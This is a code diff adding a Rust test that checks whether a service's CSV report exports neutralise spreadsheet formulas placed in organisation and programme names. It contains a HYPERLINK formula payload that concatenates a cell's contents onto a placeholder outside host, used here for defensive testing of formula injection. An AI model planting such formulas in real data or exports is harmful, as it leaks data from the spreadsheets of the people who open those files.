@@ -255,3 +255,39 @@ async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
     let auditor = world.key_of(id(0x77), Some(auditor)).await;
     assert_eq!(lines(&read("/v1/reports/claims".to_owned(), &auditor).await.1).len(), 6);
 }
+
+/// Whoever names a programme or a structure writes into other people's spreadsheets.
+#[sqlx::test(migrations = false)]
+async fn a_name_is_never_a_formula(admin: PgPool) {
+    let world = march(admin).await;
+    let formula = r#"=HYPERLINK("http://ailleurs.example/"&B2;"détail")"#;
+    for update in [
+        "update catalogue.programme set name = $1",
+        "update redemption.structure set commune = $1, name = $1",
+        "update access.organisation set name = $1 where 'funder' = any(roles)",
+        "update funding.funder set name = $1",
+    ] {
+        sqlx::query(update).bind(formula).execute(&world.admin).await.unwrap();
+    }
+    world.settle(1, "2026-03", "2026-04-03").await;
+    let mut told = 0;
+    for file in [
+        "/v1/reports/claims",
+        "/v1/reports/waterfall?format=csv",
+        "/v1/holds?format=csv",
+    ] {
+        let bytes = world.get(file).await;
+        for record in csv::Reader::from_reader(&bytes[..]).records() {
+            for cell in &record.unwrap() {
+                assert!(!cell.starts_with(['=', '+', '@']), "{file}: {cell}");
+                assert!(
+                    !cell.starts_with('-') || cell.parse::<Cents>().is_ok(),
+                    "{file}: {cell}"
+                );
+                told += usize::from(cell == format!("'{formula}"));
+            }
+        }
+        assert!(told > 0, "{file}");
+        told = 0;
+    }
+}
